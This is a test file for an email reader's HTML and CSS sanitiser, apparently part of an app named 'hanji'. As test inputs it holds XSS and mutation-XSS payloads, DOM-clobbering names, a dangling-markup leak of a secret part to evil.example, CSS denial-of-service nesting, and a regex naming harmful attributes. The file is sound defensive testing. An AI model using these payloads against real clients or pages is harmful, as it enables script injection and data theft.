import { cpuUsage } from 'node:process'
import { JSDOM } from 'jsdom'
import { expect, test } from 'vitest'
import { parseMessage } from '../../../../main/message/parse.ts'
import { joinParts, partsOf } from '../../../../preload/html/parts.ts'
import { nameStyles } from '../../../../renderer/frame/name-styles.ts'
import { cleanCss } from '../../../../renderer/html/clean/css.ts'
import { boundedMarkup, most } from '../../../../renderer/html/clean/limits.ts'
import { candidatesOf } from '../../../../renderer/html/clean/remote.ts'
import { pageOf } from '../../../../renderer/reader/body/frame/page.ts'
import { cleaned } from '../../support/cleaned.ts'

/** A message's page as its frame makes it, cleaned by the sanitiser alone. */
function framed(html: string): Document {
  const page = new JSDOM(pageOf(cleaned(html).html, 'plain')).window.document
  nameStyles(page)
  return page
}

const harmful = /^(?:on.*|src|srcset|ping|download|popover|contenteditable|autofocus|tabindex|form.*|action)$/i

test.each([
  '; color: rgb(0,0,0) <img title="q src=http://evil.example/a.png onerror=alert(1) z" lang="y">',
  '<font color="rgb(0,0,0));position:fixed;top:0;x:(">a</font>',
  '<p title="; color: rgb(0,0,0) onclick=alert(1)" style="color:rgb(0,0,0)">a</p>',
  '<p title="><img src=x onerror=alert(1)>">a</p>',
  '<p data-hanji-style="x" title="style=position:fixed">a</p>',
  '<p title="data-hanji-style=position:fixed" style="color:red">a</p>',
  '<p style="color:red" style="position:fixed" data-hanji-style="position:fixed">a</p>',
  '<style>p::after{content:"<p data-hanji-style=position:fixed>"}</style><p>a</p>',
  '<a href="#" name="addEventListener">a</a><img name="body"><form id="documentElement"></form>',
  '<p data-hanji-part="0" data-hanji-message data-hanji-look="sheet">a</p>',
  '<!--hanji-parts x--><p title="<!--hanji-part-->">a</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
])('nothing becomes markup after it was cleaned: %s', (html) => {
  const page = framed(html)
  for (const element of page.querySelectorAll('body *')) {
    for (const { name } of element.attributes) expect(name).not.toMatch(harmful)
    expect(element.getAttribute('style') ?? '').not.toMatch(/fixed/)
    expect(element.tagName).not.toMatch(/^(?:SCRIPT|IFRAME|FORM|OBJECT|SVG|MATH|TEMPLATE)$/)
  }
  expect(page.querySelector('[data-hanji-style],[data-hanji-message],[data-hanji-part]')).toBeNull()
})

test.each([
  'write color: #000000; and background: #fff;',
  'Set data-hanji-style="x" or style = y, then <!--hanji-part-->.',
  'color: rgb(0,0,0) !important; url(http://x.example/a.png)',
  '<style>p { color: red }</style> is how one does it',
  'javascript:alert(1) onclick=x @import "y" position:fixed',
])('words are never changed: %s', (words) => {
  const escaped = words.replace(/&/g, '&amp;').replace(/</g, '&lt;')
  expect(framed(`<p title="${escaped.replace(/"/g, '&quot;')}">${escaped}</p>`).querySelector('p')?.textContent).toBe(words)
  expect(framed(`<pre>${escaped}</pre>`).querySelector('pre')?.textContent).toBe(words)
})

test.each(['svg', 'math', 'object', 'video', 'iframe', 'template', 'noscript'])(
  'what goes out is counted once, however deep it lies: %s',
  (tag) => {
    const began = cpuUsage()
    cleaned(`${`<${tag}>`.repeat(100)}<image href="http://evil.example/a.png">x`)
    expect((cpuUsage(began).user + cpuUsage(began).system) / 1000).toBeLessThan(4000)
  },
)

const declarations = (css: string) => cleanCss(css, true, () => undefined)
const sheet = (css: string) => cleanCss(css, false, () => undefined)

test.each([
  '-webkit-user-modify:read-write',
  '-webkit-user-modify : read-write-plaintext-only',
  'color:red;-WEBKIT-USER-MODIFY:read-write!important',
  '-webkit-app-region:drag',
  'app-region:drag',
  'view-transition-name:a',
  'anchor-name:--a',
  'behavior:url(x)',
  'position:fixed',
  'position:sticky',
  'columns:2',
  'column-count:3',
])('%s never passes, alone, in a sheet, nested or escaped', (declaration) => {
  const name = declaration.split(';').at(-1)?.split(':')[0]?.trim() ?? ''
  const forbidden = new RegExp(`${name.slice(1)}\\s*:`, 'i')
  const escaped = declaration.replace(name, `\\${(name.codePointAt(0) ?? 0).toString(16)} ${name.slice(1)}`)
  for (const one of [declaration, escaped]) {
    expect(declarations(one)).not.toMatch(forbidden)
    for (const nested of [
      'p{X}',
      'p{&{X}}',
      'p{&:hover{X}}',
      'p{div{X}}',
      'p{b:is(c){X}}',
      'p{@media screen{X}}',
      '@media screen{p{X}}',
      'p{color:red;{X}}',
      '@layer a{p{X}}',
    ])
      expect(sheet(nested.replace('X', one)), nested).not.toMatch(forbidden)
  }
})

const deep = (text: string, times: number, end = '') => text.repeat(times) + end
test.each([
  ['blocks', deep('a{', 10_000)],
  ['blocks that others seem to end', deep('a{)]', 10_000)],
  [':not(', `${deep(':not(', 10_000)}{}`],
  [':is(', `${deep(':is(', 10_000)}{}`],
  ['@supports', deep('@supports (', 50_000)],
  ['@media', deep('@media (', 50_000)],
  ['var()', `p{color:${deep('var(--a,', 50_000)}}`],
  ['calc()', `p{width:${deep('calc(1px + ', 20_000)}`],
  ['brackets', `p{grid-template-rows:${deep('[', 20_000)}}`],
  ['at-rules', deep('@layer a{', 20_000)],
])('%s nested beyond all measure reach no parser', (_name, css) => {
  const before = cpuUsage()
  expect(sheet(css)).toBe('')
  expect(declarations(css)).toBe('')
  expect(cpuUsage(before).user / 1000).toBeLessThan(2000)
})

test('what is nested as people nest stays', () => {
  const css = `p{color:${deep('var(--a,', 30)}red${')'.repeat(30)}}`
  expect(sheet(css)).toContain('var(--a')
  expect(sheet(`a::before{content:"${'('.repeat(500)}"}`)).toContain('((((')
})

test('elements are bounded in number and depth, and the words stay', () => {
  const nested = cleaned(`${'<div>'.repeat(600)}words<img src="cid:a" alt="b">${'</div>'.repeat(600)}`)
  const page = new JSDOM(nested.html).window.document
  let depth = 0
  for (let node = page.querySelector('img')?.parentElement; node; node = node.parentElement) depth++
  expect(depth).toBeLessThanOrEqual(most.depth + 2)
  expect(page.body.textContent).toBe('words')
  const many = boundedMarkup(`<p>first</p>${'<b>x</b>'.repeat(most.elements)}`)
  expect([many.cut, many.html.split('<b>').length - 1]).toEqual([true, most.elements - 1])
  expect(boundedMarkup('a < b <> </p>'.repeat(most.elements)).cut).toBe(false)
})

test('the candidates of a srcset are found in time that grows with it', () => {
  const before = cpuUsage()
  expect(candidatesOf(`x${' '.repeat(2_000_000)}y`)).toEqual(['x'])
  expect(candidatesOf(`a.png 1x, https://x.example/b,c.png 2x,//y.example/d.png 100w`)).toEqual([
    'a.png',
    'https://x.example/b,c.png',
    '//y.example/d.png',
  ])
  expect(candidatesOf(',a.png'.repeat(100_000)).length).toBeLessThanOrEqual(50)
  expect(cpuUsage(before).user / 1000).toBeLessThan(1000)
})

const mixed = (...parts: [type: string, body: string][]): Uint8Array =>
  Buffer.from(
    `From: a@x.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${parts
      .map(([type, body]) => `--b\r\nContent-Type: text/${type}; charset=utf-8\r\n\r\n${body}\r\n`)
      .join('')}--b--\r\n`,
  )

test('no part of a message begins what another ends, nor styles it', async () => {
  const { html = '' } = await parseMessage(
    mixed(
      ['html', "<style>[title^=S]{display:none}.x</style><img src='http://evil.example/mix?"],
      ['plain', 'SECRET words'],
      ['html', "'><p title=S>last</p>"],
    ),
  )
  expect(partsOf(html)).toHaveLength(3)
  const safe = cleaned(html, { load: true })
  expect(safe.remote.join()).not.toContain('SECRET')
  const page = new JSDOM(pageOf(safe.html, 'plain')).window.document
  const blocks = [...page.querySelectorAll('[data-hanji-part]')]
  expect(blocks.map((block) => block.textContent?.includes('SECRET'))).toEqual([false, true, false])
  const styles = [...page.querySelectorAll('[data-hanji-part] style')].map(({ textContent }) => textContent ?? '')
  expect(styles.length).toBe(1)
  for (const css of styles) expect(css).toMatch(/^@scope \(\[data-hanji-part="0"\]\)\{.*\}$/s)
})

test('whoever writes a part cannot write the mark between the parts', () => {
  const forged = joinParts(['<p>a', '</p>b'], 'f'.repeat(64))
  const joined = joinParts([forged, 'SECRET'], 'a'.repeat(64))
  expect(partsOf(joined)).toEqual([forged, 'SECRET'])
  expect(partsOf('<p>one</p>')).toEqual(['<p>one</p>'])
})

test.each(['input', 'select', 'button', 'img', 'object'])('a form whose field is called after its own properties is cleaned: %s', (tag) => {
  for (const name of ['attributes', 'childNodes', 'parentNode', 'tagName', 'localName', 'firstChild', 'getAttribute', 'remove']) {
    const { html } = cleaned(`<form onclick="alert(1)"><${tag} name="${name}"><option>a</option></${tag}><p>Words</p></form>`)
    expect(html, name).toContain('Words')
    expect(html, name).not.toMatch(/<form|onclick/i)
  }
})
